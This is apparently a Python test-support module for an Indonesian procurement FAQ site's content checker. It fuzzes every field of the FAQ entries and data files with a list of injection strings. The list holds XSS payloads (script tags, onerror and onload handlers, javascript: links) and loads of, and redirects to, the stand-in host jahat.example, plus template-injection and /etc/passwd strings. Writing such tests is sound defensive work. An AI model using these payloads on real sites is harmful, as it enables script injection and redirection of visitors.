"""What an enemy would write, and every place where something can be written."""

from __future__ import annotations

import copy
import itertools
import json
import re
import shutil
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml

from check_support import BASE
from clock import TODAY
from faq.check import check
from faq.model import Severity
from faq.source import load
from trust.families import made

_RUN = "window.ran=1"
# What was thought of one by one; the table of families adds the rest.
_KNOWN = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    "<script src=https://jahat.example/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}' x='",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={_RUN}>",
    f"<body onload={_RUN}>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<iframe src=https://jahat.example/></iframe>",
    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
    "<meta http-equiv=refresh content='0; url=https://jahat.example/'>",
    "<base href=https://jahat.example/>",
    "<link rel=stylesheet href=https://jahat.example/x.css>",
    "<style>@import 'https://jahat.example/x.css'</style>",
    "<form action=https://jahat.example/><button autofocus>x</button></form>",
    "<x-mark>kata</x-mark>",
    "</title><x-mark>",
    "</template><x-mark>",
    "</textarea></noscript></style><x-mark>",
    "--><x-mark><!--",
    "]]><x-mark><![CDATA[",
    "`\n<x-mark>\n`",
    "``` \n<x-mark>\n```",
    "`Unggah\n<div><meta http-equiv=\"refresh\" content=\"0; url=https://jahat.example/\"></div>\nPenawaran`",
    f"[tautan](javascript:{_RUN})",
    f"[tautan](java&#115;cript:{_RUN})",
    f"[tautan](<javascript:{_RUN}>)",
    f"<javascript:{_RUN}>",
    f"[tautan](data:text/html,<script>{_RUN}</script>)",
    f'[tautan](https://a.example){{: href="http://jahat.example/#{{}}" onclick="{_RUN}" }}',
    f'[tautan](https://a.example "x\\" onmouseover=\\"{_RUN}")',
    f'![x](x.png"onerror="{_RUN})',
    "[a]: https://jahat.example/\n[a]",
    "&lt;x-mark&gt; &#60;x-mark>",
    "{{ 7 * 191 }} {% raw %} ${7*191} #{7*191}",
    "\u202ekram-x< \u2028<x-mark>\u2029",
    "\\u003cx-mark\\u003e \\x3cx-mark\\x3e",
    "<x-mark\u0000>",
    '!!! note "<x-mark>"\n    <x-mark>',
    "| a | b |\n|---|---|\n| <x-mark> | `<x-mark>` |",
    "<!-- html -->\n<x-mark>\n<!-- /html -->",
    "#import \"/etc/passwd\" #eval(\"1\") $x$ @x",
)  # fmt: skip
PAYLOADS = tuple(dict.fromkeys((*_KNOWN, *made())))

_ENTRY: dict[str, Any] = {
    "question": "Lupa kata sandi",
    "category": "akun",
    "audience": ["penyedia"],
    "symptoms": [
        {"id": "pesan", "text": "Pesan di layar"},
        {"id": "kode", "code": "7xxxx"},
        {"id": "lain", "text": "Pesan yang lain"},
    ],
    "asked_as": ["email tidak masuk"],
    "steps": [
        {
            "id": "lapor",
            "role": "penyedia",
            "text": "Laporkan.",
            "escalate_to": "helpdesk",
            "attach": ["npwp"],
        },
        {"id": "cek", "role": "helpdesk", "text": "Periksa.", "sop": "galat", "when": "jaim"},
        {"id": "terus", "role": "helpdesk", "text": "Teruskan.", "escalate_to": "admin"},
        {"id": "tutup", "role": "admin", "text": "Selesaikan."},
    ],
    "applies_to": "SPSE 4.5",
    "owner": "Bagian pengadaan",
    "former_slugs": ["alamat-lama"],
    "reviewed": "2026-11-01",
    "body": "Keterangan tambahan.",
}
_ENGLISH: dict[str, Any] = {
    "question": "Forgot the password",
    "asked_as": ["reset never comes"],
    "symptoms": {"pesan": "A message"},
    "steps": {"lapor": "Report.", "cek": "Check.", "terus": "Pass it on.", "tutup": "Solve it."},
    "body": "More on this.",
}
_BOTH = {"id": "Kanal resmi", "en": "An official channel"}
_AGENCY: dict[str, Any] = {
    "short_name": "LPSE",
    "address": "Jalan Contoh 1",
    "email": "lpse@a.example",
    "phone": "+62 254 1",
    "whatsapp": "6281234567890",
    "hours": _BOTH,
    "website": "https://a.example/",
    "spse_url": "https://a.example/eproc4",
    "feedback_url": "https://a.example/saran",
    "contacts": [{"label": _BOTH, "text": "@lpse", "url": "https://a.example/t", "description": _BOTH}],
    "notice": {"text": _BOTH, "until": "2099-01-01", "by": "LPSE"},
    "colours": {"brand": "#0b6b57", "link": "#0b6b57"},
}
_BREAKS = re.compile("[\x7f\x85\u2028\u2029\ufeff\ufffe\uffff]")
# Where in an entry a text can be: the file, and the way to the text in it.
PLACES: tuple[tuple[str, tuple[str | int, ...]], ...] = (
    ("id", ("question",)),
    ("id", ("asked_as", 0)),
    ("id", ("symptoms", 0, "text")),
    ("id", ("symptoms", 1, "code")),
    ("id", ("steps", 0, "text")),
    ("id", ("steps", 1, "text")),
    ("id", ("steps", 3, "id")),
    ("id", ("symptoms", 2, "id")),
    ("id", ("applies_to",)),
    ("id", ("owner",)),
    ("id", ("former_slugs", 0)),
    ("id", ("reviewed",)),
    ("id", ("body",)),
    ("en", ("question",)),
    ("en", ("asked_as", 0)),
    ("en", ("symptoms", "pesan")),
    ("en", ("steps", "lapor")),
    ("en", ("steps", "cek")),
    ("en", ("body",)),
)


def as_yaml(value: Any) -> str:
    """`value` as JSON in one line, which YAML reads as it is once no character in it ends a line."""
    return _BREAKS.sub(
        lambda found: f"\\u{ord(found[0]):04x}", json.dumps(value, ensure_ascii=False, default=str)
    )


def _room(line: str) -> int:
    """How many lines the check may take `line` for: an escaped end of a line counts as one."""
    return 1 + line.count("\\n")


def _lines(front: dict[str, Any]) -> Iterator[tuple[str, tuple[str | int, ...]]]:
    """Each line of a frontmatter and what is in it: a field, or one thing of a field."""
    yield "---", ()
    for key, value in front.items():
        if not isinstance(value, (dict, list)):
            yield f"{key}: {as_yaml(value)}", (key,)
            continue
        yield f"{key}:", (key,)
        things = value.items() if isinstance(value, dict) else enumerate(value)
        for at, thing in things:
            yield f"  {f'{at}:' if isinstance(value, dict) else '-'} {as_yaml(thing)}", (key, at)
    yield "---", ()


@dataclass
class Draft:
    """One entry with its English, to be written into a content folder."""

    number: int
    texts: dict[str, dict[str, Any]]

    @classmethod
    def new(cls, number: int) -> Draft:
        return cls(number, {"id": copy.deepcopy(_ENTRY), "en": copy.deepcopy(_ENGLISH)})

    def put(self, place: tuple[str, tuple[str | int, ...]], text: str) -> None:
        file, path = place
        value: Any = self.texts[file]
        for key in path[:-1]:
            value = value[key]
        value[path[-1]] = text

    def write(self, content: Path) -> dict[str, tuple[str, tuple[str | int, ...]]]:
        """Write both files; returns the place by `file:line`, with the body wherever its lines are."""
        places: dict[str, tuple[str, tuple[str | int, ...]]] = {}
        for file, ending in (("id", ".md"), ("en", ".en.md")):
            front = dict(self.texts[file])
            body = front.pop("body")
            if file == "id":
                front = {"id": f"F{self.number:03}", **front}
                if front["question"] == _ENTRY["question"]:
                    front["question"] += f" {self.number}"
                if front["former_slugs"] == _ENTRY["former_slugs"]:
                    front["former_slugs"] = [f"alamat-lama-{self.number}"]
            name = f"faq/jawaban-{self.number}{ending}"
            text = ""
            for line, path in (*_lines(front), (f"{body}\n", ("body",))):
                room = _room(line) + line.count("\n")
                first = text.count("\n") + 1
                places |= {f"{name}:{at}": (file, path) for at in range(first, first + room)}
                text += line + "\n" * room
            (content / name).write_text(text, encoding="utf-8", errors="surrogatepass")
        return places


def base(folder: Path) -> Path:
    """The small valid content without its entry, with a glossary, a procedure that has an address, and all
    that an agency may say about itself."""
    content = Path(shutil.copytree(BASE, folder))
    for file in (*content.glob("faq/*"), *content.glob("*.md")):
        file.unlink()
    both = {"id": "Kata sandi", "en": "Password"}
    known = {"label": both, "description": both, "url": "https://a.example/"}
    for name, id_ in (("glossary", "sandi"), ("sops", "galat")):
        (content / f"_data/{name}.yml").write_text(json.dumps({id_: known}), encoding="utf-8")
    known = {"label": both, "description": both}
    (content / "_data/categories.yml").write_text(json.dumps({"akun": known}), encoding="utf-8")
    agency = yaml.safe_load((content / "_data/agency.yml").read_text(encoding="utf-8"))
    (content / "_data/agency.yml").write_text(as_yaml(agency | _AGENCY), encoding="utf-8")
    return content


def broken(content: Path) -> set[str]:
    """The files of `content` with an error, and `file:line` of each; empty where it may be published."""
    found, problems = check(load(content), TODAY)
    wrong = [problem for problem in problems if problem.severity is Severity.ERROR]
    assert (found is None) is bool(wrong)
    return {*(problem.path for problem in wrong), *(f"{problem.path}:{problem.line}" for problem in wrong)}


def is_accepted(content: Path) -> bool:
    """Whether the check lets this content be published."""
    return not broken(content)


def entries_with(payloads: Sequence[str], content: Path) -> list[tuple[str, str]]:
    """Write an entry for each payload that holds it wherever the check accepts it; returns what was accepted.

    Each begins with the payload everywhere, and loses the places that the check names until it names none.
    """
    kept = {number: (payload, [*PLACES]) for number, payload in enumerate(payloads, start=1)}
    wrong = {""}
    while wrong:
        written: dict[str, Any] = {}
        for number, (payload, places) in kept.items():
            draft = Draft.new(number)
            for place in places:
                draft.put(place, payload)
            written |= draft.write(content)
        wrong = broken(content)
        for number, (_, places) in kept.items():
            _take_out(places, [written.get(name, ("", ())) for name in wrong if f"-{number}." in name])
    return [
        (payload, f"{file} {'.'.join(map(str, path))}")
        for payload, places in kept.values()
        for file, path in places
    ]


def _take_out(places: list[Any], named: list[tuple[str, tuple[str | int, ...]]]) -> None:
    """Take those of `places` out that are in one of the lines `named`; where none is, the last."""
    held = [(file, path) for file, path in named if file]
    beside = [place for place in places if not any(_within(place, line) for line in held)]
    if named and len(beside) == len(places):
        assert places, "an entry without any payload is refused"
        beside = places[:-1]
    places[:] = beside


def _within(place: tuple[str, tuple[str | int, ...]], line: tuple[str, tuple[str | int, ...]]) -> bool:
    (file, path), (other, start) = place, line
    return file == other and bool(start) and path[: len(start)] == start


# Data files that hold as many things as there are: the texts of a thing that take a payload together.
_SHORT = {"id": "Kata", "en": "Word"}
_MANY: dict[str, tuple[str, ...]] = {
    "glossary": ("label", "description", "url"),
    "sops": ("label", "description", "url"),
    "conditions": ("label",),
    "evidence": ("label", "description"),
}


def _thing(name: str, field: str, payload: str) -> dict[str, Any]:
    """A thing of the data file `name` with `payload` in `field`."""
    texts = {"label": _SHORT, "description": _SHORT}
    thing: dict[str, Any] = {one: both for one, both in texts.items() if one in _MANY[name]}
    thing[field] = payload if field == "url" else {"id": payload, "en": payload}
    return thing | ({"from": ["penyedia"]} if name == "evidence" else {})


def lists_with(payloads: Sequence[str], content: Path) -> list[str]:
    """Write a thing into each data file for each of its fields and each payload, and take out those that the
    check refuses; returns the payloads that stayed, each as often as it did."""
    kept: dict[str, list[str]] = {}
    for name, fields in _MANY.items():
        known = yaml.safe_load((content / f"_data/{name}.yml").read_text(encoding="utf-8"))
        tried = list(itertools.product(fields, payloads))
        added = {f"x-{number}": _thing(name, *one) for number, one in enumerate(tried)}
        kept[name] = [f"{key}: {as_yaml(value)}" for key, value in (known | added).items()]
    wrong = {""}
    while wrong:
        for name, lines in kept.items():
            text = "".join(line + "\n" * _room(line) for line in lines)
            (content / f"_data/{name}.yml").write_text(text, encoding="utf-8", errors="surrogatepass")
        wrong = broken(content)
        for name in {path[len("_data/") : -len(".yml")] for path in wrong if path.endswith(".yml")}:
            before = [0, *itertools.accumulate(map(_room, kept[name]))]
            kept[name] = [
                line
                for line, first in zip(kept[name], before, strict=False)
                if not any(f"_data/{name}.yml:{first + at + 1}" in wrong for at in range(_room(line)))
            ]
            assert len(kept[name]) < len(before) - 1, wrong
    names = (line.partition(":")[0] for lines in kept.values() for line in lines)
    return [payloads[int(name[2:]) % len(payloads)] for name in names if name.startswith("x-")]


def _changed(value: Any, path: Sequence[Any], text: str) -> Any:
    """A copy of `value` with `text` at `path`."""
    changed = copy.deepcopy(value)
    inner = changed
    for key in path[:-1]:
        inner = inner[key]
    inner[path[-1]] = text
    return changed


def leaves(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], str]]:
    """Every text in the value of a data file, with the way to it."""
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from leaves(inner, (*path, key))
    elif isinstance(value, list):
        for at, inner in enumerate(value):
            yield from leaves(inner, (*path, at))
    elif isinstance(value, str):
        yield path, value


# So many payloads are tried in one text of a data file.
_TRIES = 6


def data_with(payloads: Sequence[str], content: Path) -> list[str]:
    """Write a payload into every text of the data files that are not lists, where the check accepts it.

    The payloads take turns; where one is refused, the next few are tried. Returns the places.
    """
    turns = itertools.cycle(payloads)
    accepted = []
    for file in (content / f"_data/{name}.yml" for name in ("agency", "categories", "roles")):
        kept = yaml.safe_load(file.read_text(encoding="utf-8"))
        for path, _ in list(leaves(kept)):
            for payload in itertools.islice(turns, min(_TRIES, len(payloads))):
                tried = _changed(kept, path, payload)
                file.write_text(as_yaml(tried), encoding="utf-8", errors="surrogatepass")
                if is_accepted(content):
                    kept = tried
                    accepted.append(f"{file.name} {'.'.join(map(str, path))}")
                    break
        file.write_text(as_yaml(kept), encoding="utf-8", errors="surrogatepass")
    return accepted
